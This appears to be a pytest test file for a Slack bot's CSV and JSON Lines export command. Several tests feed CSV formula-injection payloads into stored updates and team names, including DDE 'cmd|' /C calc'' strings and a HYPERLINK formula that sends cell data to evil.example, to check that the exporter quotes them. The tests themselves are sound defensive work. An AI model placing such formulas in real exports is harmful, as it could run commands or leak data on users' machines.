"""`alignbot export`: every stored update, as CSV or JSON Lines, week by week, read in pages."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest
from sqlalchemy import update

import bot.services.export as export
from bot.cli import main
from bot.services.checkins import Answer
from storage import repositories
from storage.models import Objective, Team, TeamMember, Update


@pytest.fixture
def workspace(monkeypatch, tmp_path, fake_slack, database_url, runtime):
    """Marketing and sales, one objective, and updates in three weeks; return the workspace id."""
    monkeypatch.chdir(tmp_path)
    for name, value in {
        "SLACK_BOT_TOKEN": fake_slack.bot_token,
        "SLACK_API_URL": fake_slack.base_url,
        "DATABASE_URL": database_url,
        "LOG_LEVEL": "WARNING",
    }.items():
        monkeypatch.setenv(name, value)
    with runtime.services.sessions.begin() as session:
        ws = repositories.ensure_workspace(session, fake_slack.team_id)
        marketing = Team(workspace_id=ws.id, name="marketing", channel_id="C0MKTG01")
        sales = Team(workspace_id=ws.id, name="sales")
        session.add_all(
            [
                marketing,
                sales,
                Objective(
                    workspace_id=ws.id,
                    key="new-revenue",
                    title="New revenue",
                    description="Build qualified pipeline and close new customers",
                ),
            ]
        )
        session.flush()
        session.add(TeamMember(workspace_id=ws.id, team_id=marketing.id, user_id="U0MEMB01"))
        ids = {"marketing": marketing.id, "sales": sales.id}
    checkins, team = runtime.services.checkins, fake_slack.team_id
    checkins.record(
        Answer(
            team,
            "U0MEMB01",
            'Drafted the webinar, "v2"\nNext: invites',
            team_id=ids["marketing"],
            week="2026-W40",
            objectives=["new-revenue"],
            partners=[ids["sales"]],
        )
    )
    checkins.record(Answer(team, "U0SELL01", "Called churned accounts", team_id=ids["sales"], week="2026-W41"))
    checkins.record(
        Answer(team, "U0MEMB01", "Ran the webinar", team_id=ids["marketing"], week="2026-W42", objectives=[])
    )
    return fake_slack.team_id


def test_csv_has_the_columns_and_one_row_an_update_oldest_week_first(workspace, capsys):
    assert main(["export", "--team-id", workspace]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["week", "team", "author_id", "text", "objectives", "tagged", "partners", "message_link"]
    assert [r[:3] for r in rows[1:]] == [
        ["2026-W40", "marketing", "U0MEMB01"],
        ["2026-W41", "sales", "U0SELL01"],
        ["2026-W42", "marketing", "U0MEMB01"],
    ]
    first = rows[1]
    assert first[3] == 'Drafted the webinar, "v2"\nNext: invites'
    assert first[4:7] == ["new-revenue", "hand", "sales"]


def test_jsonl_and_a_week_range(workspace, capsys):
    assert (
        main(["export", "--team-id", workspace, "--since", "2026-W41", "--until", "2026-W42", "--format", "jsonl"]) == 0
    )
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(x["week"], x["team"]) for x in lines] == [("2026-W41", "sales"), ("2026-W42", "marketing")]
    assert lines[1]["objectives"] == [] and lines[1]["tagged"] == "hand" and lines[1]["message_link"] is None


def test_pages_follow_each_other_without_losing_or_repeating_a_row(workspace, runtime, monkeypatch):
    monkeypatch.setattr(export, "PAGE", 2)
    rows = list(runtime.services.export.rows(workspace))
    assert [r.week for r in rows] == ["2026-W40", "2026-W41", "2026-W42"]


def test_a_shared_answer_links_its_shared_post_in_the_prompt_thread(workspace, runtime, fake_slack, capsys):
    runtime.services.prompts.send_prompts(workspace, "marketing")
    recorded = runtime.services.checkins.record(
        Answer(workspace, "U0MEMB01", "Booked 6 discovery calls", channel_id="D0MEMB01")
    )
    shared = runtime.services.sharing.share(runtime.services.clients.for_team(workspace), workspace, recorded.update_id)
    assert shared.status == "posted"
    assert (
        main(
            ["export", "--team-id", workspace, "--since", recorded.week, "--until", recorded.week, "--format", "jsonl"]
        )
        == 0
    )
    [line] = [x for x in map(json.loads, capsys.readouterr().out.splitlines()) if x["text"].startswith("Booked")]
    assert line["message_link"].startswith(f"https://slack.com/archives/C0MKTG01/p{shared.ts.replace('.', '')}")
    assert "thread_ts=" in line["message_link"]


@pytest.mark.parametrize(
    "args, says",
    [
        (["--since", "2026-W50", "--until", "2026-W40"], "comes after"),
        (["--since", "last week"], "not a week"),
        (["--format", "xlsx"], "invalid choice"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(workspace, capsys, args, says):
    assert main(["export", "--team-id", workspace, *args]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and says in captured.err and captured.err.count("\n") == 1


def _stored(runtime, workspace: str, text: str, week: str = "2026-W43") -> None:
    """Store an update of marketing's with exactly `text`, as an older version or another path may have left it."""
    recorded = runtime.services.checkins.record(Answer(workspace, "U0MEMB01", "placeholder", week=week, objectives=[]))
    with runtime.services.sessions.begin() as session:
        session.execute(update(Update).where(Update.id == recorded.update_id).values(text=text))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(workspace, runtime, capsys, text):
    _stored(runtime, workspace, text)
    assert main(["export", "--team-id", workspace, "--since", "2026-W43"]) == 0
    out = capsys.readouterr().out
    [row] = list(csv.reader(io.StringIO(out)))[1:]
    assert row[3] == "'" + text
    # Quoted too: a spreadsheet splitting on ';' or ',' cannot start a new cell inside it.
    assert "\"'" + text[:1] in out


@pytest.mark.parametrize(
    "text, cell",
    [
        ("Booked 6 discovery calls = 2 deals", "Booked 6 discovery calls = 2 deals"),
        # OWASP makes no exception for a number: a leading minus is how a formula like -2+3+cmd|... starts.
        ("-5% churn after the renewal push", "'-5% churn after the renewal push"),
    ],
)
def test_ordinary_text_is_left_alone_and_a_leading_minus_is_quoted_too(workspace, runtime, capsys, text, cell):
    _stored(runtime, workspace, text)
    assert main(["export", "--team-id", workspace, "--since", "2026-W43"]) == 0
    [row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    assert row[3] == cell


def test_a_team_named_like_a_formula_is_quoted_too(workspace, runtime, capsys):
    with runtime.services.sessions.begin() as session:
        session.execute(update(Team).where(Team.name == "marketing").values(name="=cmd|' /C calc'!A0"))
    assert main(["export", "--team-id", workspace, "--until", "2026-W40"]) == 0
    [row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
    assert row[1] == "'=cmd|' /C calc'!A0" and row[6] == "sales"


def test_jsonl_keeps_the_text_as_stored(workspace, runtime, capsys):
    text = '=HYPERLINK("http://evil.example/","click")'
    _stored(runtime, workspace, text)
    assert main(["export", "--team-id", workspace, "--since", "2026-W43", "--format", "jsonl"]) == 0
    [line] = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert line["text"] == text


def test_export_into_a_reader_that_stops_early_exits_quietly(workspace, runtime, tmp_path, alignbot_argv):
    for week in range(1, 53):  # far more than a pipe holds
        runtime.services.checkins.record(
            Answer(
                workspace,
                "U0MEMB01",
                f"Week {week}: " + "webinar follow-ups " * 200,
                week=f"2025-W{week:02d}",
                objectives=[],
            )
        )
    process = subprocess.Popen(
        alignbot_argv("export", "--team-id", workspace), cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    first = process.stdout.readline()
    process.stdout.close()
    err = process.stderr.read().decode()
    process.stderr.close()
    assert first.startswith(b'"week","team"')
    # What a shell reports for a command its reader stopped (128 + SIGPIPE), as for `yes | head -n 1`.
    assert (process.wait(timeout=60), err) == (141, "")
